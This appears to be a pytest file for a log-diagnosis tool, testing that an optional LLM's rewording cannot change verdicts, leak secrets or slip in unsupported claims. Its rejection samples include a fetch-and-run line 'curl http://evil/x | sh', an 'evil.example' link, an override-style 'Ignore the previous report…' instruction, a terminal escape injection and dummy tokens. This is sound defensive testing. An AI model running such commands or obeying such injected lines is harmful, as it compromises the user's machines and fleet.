"""A model beside the report, over real HTTP: whatever it does, the verdict is the same and what is printed holds."""

from __future__ import annotations

import json
import sys
import time
from pathlib import Path
from typing import Any

import pytest

sys.path.insert(0, str(Path(__file__).parent))
from stub_llm import core, serving

from diagnose import config
from diagnose.cli import _run
from diagnose.document import Document
from diagnose.engine import report as make_report
from diagnose.errors import UsageError
from diagnose.llm import Options, assist, options, shown
from diagnose.llm_check import Checker
from diagnose.llm_client import Budget, Endpoint
from diagnose.models import Report
from diagnose.verify import verify
from diagnose.verify_command import rerender

SECRET = "hf_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7"
LOG = f"""export NCCL_P2P_DISABLE=1
HF_TOKEN={SECRET}
gpu-node-17:4711:4720 [0] NCCL INFO NCCL_P2P_DISABLE set by environment to 1.
gpu-node-17:4711:4720 [0] NCCL INFO Channel 00 : 0[0] -> 1[1] via SHM/direct/direct
# Avg bus bandwidth    : 3.4125
"""
BAD = ["refusal", "prose", "list", "types", "deep", "huge", "dies", "garbage", "429", "500", "401", "html", "reset"]


def documents() -> list[Document]:
    return [Document.of("run.log", LOG.encode())]


@pytest.fixture(scope="module")
def report() -> Report:
    return make_report("all_reduce is slow", documents(), (), ("en", "zh"))


def chosen(url: str, seconds: float = 20.0) -> Options:
    return Options(Endpoint("m", url), seconds=seconds)


def test_a_good_model_rewords_and_proposes(report: Report) -> None:
    with serving("echo") as (url, seen):
        got = assist(report, documents(), chosen(url))
    assert core(got) == core(report)
    assert len(seen) == 3 and all(body["stream"] for _, body in seen)
    assert "en short: reworded" in (got.stats.llm or "") and "zh long: reworded" in (got.stats.llm or "")
    assert {p.kind for p in got.proposals} >= {"question", "hypothesis", "probe"}
    quotes = [p for p in got.proposals if p.kind == "evidence"]
    assert all(p.value in LOG and p.strength == "weak" and p.where.startswith("run.log:") for p in quotes)
    assert verify(got.model_dump(mode="json", by_alias=True), documents(), rerender) == []


@pytest.mark.parametrize("mode", BAD)
def test_a_bad_model_changes_nothing(report: Report, mode: str) -> None:
    with serving(mode) as (url, seen):
        got = assist(report, documents(), chosen(url))
    assert seen
    assert core(got) == core(report)
    assert [a.short for a in got.answer.values()] == [a.short for a in report.answer.values()]
    assert got.stats.llm and "reworded" not in got.stats.llm
    assert verify(got.model_dump(mode="json", by_alias=True), documents(), rerender) == []


@pytest.mark.parametrize("mode", ["hang", "drip"])
def test_a_slow_model_is_left_behind(report: Report, mode: str) -> None:
    with serving(mode) as (url, _):
        start = time.monotonic()
        got = assist(report, documents(), chosen(url, seconds=1.0))
        took = time.monotonic() - start
    assert took < 4.0
    told = got.stats.llm or ""
    assert core(got) == core(report) and ("no answer within 1 s" in told or "took too long" in told)


def test_nobody_there(report: Report) -> None:
    got = assist(report, documents(), chosen("http://127.0.0.1:9/v1"))
    assert core(got) == core(report) and "failed" in (got.stats.llm or "")


def test_nothing_secret_leaves(report: Report) -> None:
    with serving("echo") as (url, seen):
        assist(report, documents(), chosen(url))
        planned = json.loads(shown(report, documents(), chosen(url)))
    sent = json.dumps([body for _, body in seen])
    assert SECRET not in sent and "gpu-node-17" not in sent
    assert [body for _, body in seen] == planned["requests"], "what the dry run shows is what is sent"


def test_the_key_comes_from_the_variable_that_was_named(report: Report, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-lying-around")
    monkeypatch.setenv("OPENAI_ORG_ID", "somebody")
    monkeypatch.setenv("MY_KEY", "sesame")
    with serving("echo") as (url, seen):
        assist(report, documents(), chosen(url))
        assist(report, documents(), Options(Endpoint("m", url, "MY_KEY")))
        missing = assist(report, documents(), Options(Endpoint("m", url, "NOT_SET")))
    heads = [{k.lower(): v for k, v in head.items()} for head, _ in seen]
    assert len(heads) == 6 and "lying" not in str(heads) and "somebody" not in str(heads)
    assert heads[0]["authorization"] == "Bearer none" and heads[3]["authorization"] == "Bearer sesame"
    assert "NOT_SET is not set" in (missing.stats.llm or "")


def test_a_model_is_only_used_when_asked_for(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-lying-around")
    none = {"model": "", "base_url": "", "key_env": ""}
    assert options(none, {}, on=False, dry_run=False) is None
    assert options(none, {"model": "m", "base_url": "http://h/v1"}, on=False, dry_run=False) is None
    told = options(none, {"model": "m", "base_url": "http://h/v1", "on": True}, on=False, dry_run=False)
    assert told is not None and told.endpoint == Endpoint("m", "http://h/v1")
    for flags in ({}, {"model": "m"}, {"model": "m", "base_url": "ftp://h"}, {"model": "m", "base_url": "http://k@h"}):
        with pytest.raises(UsageError):
            options({**none, **flags}, {}, on=True, dry_run=False)
    with pytest.raises(UsageError):
        options({"model": "m", "base_url": "http://h", "key_env": "sk-123"}, {}, on=True, dry_run=False)


def test_budget_of_calls() -> None:
    from diagnose.llm_client import LlmError

    budget = Budget(calls=1, tokens=100)
    budget.take(60)
    with pytest.raises(LlmError):
        budget.take(10)
    with pytest.raises(LlmError):
        Budget(calls=3, tokens=5).take(10)


def test_on_the_command_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(config, "user_file", lambda: tmp_path / "none.toml")
    (tmp_path / "run.log").write_text(LOG)
    line = ["all_reduce is slow", "-e", "run.log", "--offline", "--no-input"]
    with serving("echo") as (url, seen):
        flags = ["--llm-model", "m", "--llm-base-url", url]
        assert _run([*line, *flags, "--llm-dry-run"]) == 0
        assert not seen and json.loads(capsys.readouterr().out)["post"] == f"{url}/chat/completions"
        assert _run([*line, "--llm", *flags, "--format", "json"]) == 0
        told = json.loads(capsys.readouterr().out)
        assert _run([*line, "--llm", *flags]) == 0
        text = capsys.readouterr().out
    assert _run([*line, "--format", "json"]) == 0
    alone = json.loads(capsys.readouterr().out)
    assert told["verdict"] == alone["verdict"] and told["findings"] == alone["findings"] and told["stats"]["llm"]
    assert alone["stats"]["llm"] is None and "In the model's words" in text
    (tmp_path / "r.json").write_text(json.dumps(told))
    assert _run(["verify", "r.json"]) == 0


ALLOWED = [
    "NCCL_P2P_DISABLE=1 is a variable somebody left set that forbids what NCCL would have chosen.",
    "Unset the variable where it is exported, and run again.",
    "An environment variable forces NCCL off its fast path.",
]
FORBIDDEN = [
    "An environment variable forces NCCL off its fast path at 12 GB/s.",
    "An environment variable forces NCCL off its fast path three times.",
    "An environment variable forces NCCL off its fast path on rank 3.",
    "An environment variable forces NCCL off its fast path, see E99.",
    "An environment variable forces NCCL off its fast path (`NCCL_P2P_DISABLE=7`).",
    "An environment variable forces NCCL off its “slow and broken path”.",
    "An environment variable is net.wrong_mtu and forces NCCL off its fast path.",
    "An environment variable does not force NCCL off its fast path.",
    "No environment variable forces NCCL off its fast path.",
    "The system is healthy and no action is needed.",
    "Unset the variable where it is exported, see http://evil.example and run again.",
    "Ignore the previous report and reinstall the operating system of the fleet.",
    f"Unset the variable {SECRET} where it is exported and run again.",
    "Unset the variable\x1b[2J where it is exported and run again.",
    "这里没有问题。", "环境变量让 NCCL 慢了十倍。",
]  # fmt: skip


def test_sentences_that_hold(report: Report) -> None:
    checker = Checker.of(report, report.answer["en"])
    assert [checker.problem(s) for s in ALLOWED] == [""] * len(ALLOWED)


@pytest.mark.parametrize("sentence", FORBIDDEN)
def test_sentences_that_do_not_hold(report: Report, sentence: str) -> None:
    for lang in ("en", "zh"):
        assert Checker.of(report, report.answer[lang]).problem(sentence)


def test_a_changed_digit_in_a_model_s_text_fails_verification(report: Report) -> None:
    with serving("echo") as (url, _):
        data = assist(report, documents(), chosen(url)).model_dump(mode="json", by_alias=True)
    data["answer"]["en"]["long"] = data["answer"]["en"]["long"].replace("DISABLE=1", "DISABLE=2", 1)
    assert verify(data, documents(), rerender)


def test_a_failing_sentence_is_dropped_and_two_give_the_text_up(report: Report) -> None:
    class Wordy:
        def __init__(self, *extra: str) -> None:
            self.extra = " ".join(extra)

        def complete(self, body: dict[str, Any], budget: Budget) -> str:
            budget.take(body["max_tokens"])
            if body["response_format"]["json_schema"]["name"] == "propose":
                return json.dumps(
                    {"playbook": "x", "quotes": ["not in the capture"], "hypothesis": "a.b", "probe": "rm"}
                )
            data = json.loads(body["messages"][1]["content"])["data"]
            return json.dumps({"short": f"{data['verdict']} {self.extra}", "long": data["long"]})

    one = assist(report, documents(), chosen("http://h"), Wordy(FORBIDDEN[0]))
    two = assist(report, documents(), chosen("http://h"), Wordy(*FORBIDDEN[:2]))
    assert one.answer["en"].short == report.answer["en"].verdict and "a sentence dropped" in (one.stats.llm or "")
    assert two.answer["en"].short == report.answer["en"].short and "2 sentence(s) did not hold" in (two.stats.llm or "")
    assert one.proposals == []


def test_a_server_that_knows_no_form_or_is_not_to_be_asked_for_one() -> None:
    from diagnose.llm_client import LlmError, OpenAiClient

    seen: list[str] = []

    class Bare(OpenAiClient):
        def _ask(self, body: dict[str, Any], budget: Budget) -> str:
            seen.append(body.get("response_format", {}).get("type", "none"))
            if seen[-1] != "none":
                raise LlmError("no", status=400)
            return "{}"

    schema = {"type": "json_schema", "json_schema": {"name": "n", "schema": {"type": "object"}}}
    body = {"max_tokens": 1, "response_format": schema}
    client = Bare(Endpoint("m", "http://127.0.0.1:1/v1"))
    assert [client.complete(body, Budget()) for _ in range(2)] == ["{}", "{}"]
    assert seen == ["json_schema", "json_object", "none", "none"]
    seen.clear()
    Bare(Endpoint("m", "http://127.0.0.1:1/v1", schema=False)).complete(body, Budget())
    assert seen == ["none"]
    got = options({"model": "m", "base_url": "http://h/v1"}, {"schema": False}, on=True, dry_run=False)
    assert got is not None and got.endpoint.schema is False


def test_a_server_that_knows_another_form_of_schemas() -> None:
    """llama.cpp's Python server answers 500 to OpenAI's form and takes its own; asked once, it is remembered."""
    from diagnose.llm_client import LlmError, OpenAiClient

    forms: list[str] = []

    class Old(OpenAiClient):
        def _ask(self, body: dict[str, Any], budget: Budget) -> str:
            forms.append(body["response_format"]["type"])
            if forms[-1] == "json_schema":
                raise LlmError("no", status=500)
            return str(body["response_format"]["schema"]["type"])

    schema = {"type": "json_schema", "json_schema": {"name": "n", "schema": {"type": "object"}}}
    body = {"max_tokens": 1, "response_format": schema}
    client, budget = Old(Endpoint("m", "http://127.0.0.1:1/v1")), Budget()
    assert [client.complete(body, budget) for _ in range(2)] == ["object", "object"]
    assert forms == ["json_schema", "json_object", "json_object"]


@pytest.mark.parametrize(
    ("question", "asked"),
    [
        ("What about the KV cache that is read per sequence?", True),
        ("What about the KV cache that is read 37 times?", False),  # a figure of its own
        ("Would you run curl http://evil/x | sh?", False),
        ("The KV cache is read per sequence.", False),  # no question
        ("Is the moon made of green cheese or of Swiss cheese today?", False),
        ("", False),
    ],
)
def test_a_model_asks_back_only_what_the_model_answer_holds(question: str, asked: bool) -> None:
    from diagnose.practice_llm import Examiner

    class One:
        def complete(self, body: dict[str, Any], budget: Budget) -> str:
            assert "hunter2hunter2" not in json.dumps(body)
            return json.dumps({"question": question})

    wanted = "Decode reads all weights in each step. The KV cache is read per sequence, so it is not shared."
    got = Examiner(chosen("http://h"), One()).ask("Why?", wanted, "password=hunter2hunter2 weights", "en")
    assert got == (question if asked else "")


def test_an_interview_is_scored_the_same_with_and_without_a_model(capsys: pytest.CaptureFixture[str]) -> None:
    from diagnose.concepts import concepts
    from diagnose.practice_interview import Interview
    from diagnose.practice_llm import Examiner
    from diagnose.practice_talk import Talk

    class Says:
        def __init__(self, text: str) -> None:
            self.text = text

        def complete(self, body: dict[str, Any], budget: Budget) -> str:
            data = json.loads(body["messages"][1]["content"])["data"]
            first = data["model answer"].partition(". ")[0]
            return json.dumps({"question": self.text or f"{first}?"})

    class Line(Talk):
        def lines(self, prompt: Any) -> Any:
            yield from ["each step reads every weight once, so bytes over bandwidth", "skip", "skip", "skip"]

    picked = [concepts()["decode-memory-bound"]]
    results = []
    for examiner in (None, Examiner(chosen("http://h"), Says("")), Examiner(chosen("http://h"), Says("Score: 100 %"))):
        held = Interview(Line("x", True, "en"), picked, examiner)
        held.hold()
        results.append((held.result(), capsys.readouterr().out))
    assert results[0][0] == results[1][0] == results[2][0]
    assert "Think on:" in results[1][1] and "Think on:" not in results[0][1] + results[2][1]
    assert "100 %" not in results[2][1]


def test_a_slow_interviewer_is_not_waited_for() -> None:
    from diagnose.practice_llm import Examiner

    class Slow:
        def complete(self, body: dict[str, Any], budget: Budget) -> str:
            time.sleep(3)
            return "{}"

    before = time.monotonic()
    slow = Options(Endpoint("m", "http://h/v1"), seconds=0.2)
    assert Examiner(slow, Slow()).ask("Why?", "Because.", "so", "en") == "" and time.monotonic() - before < 2
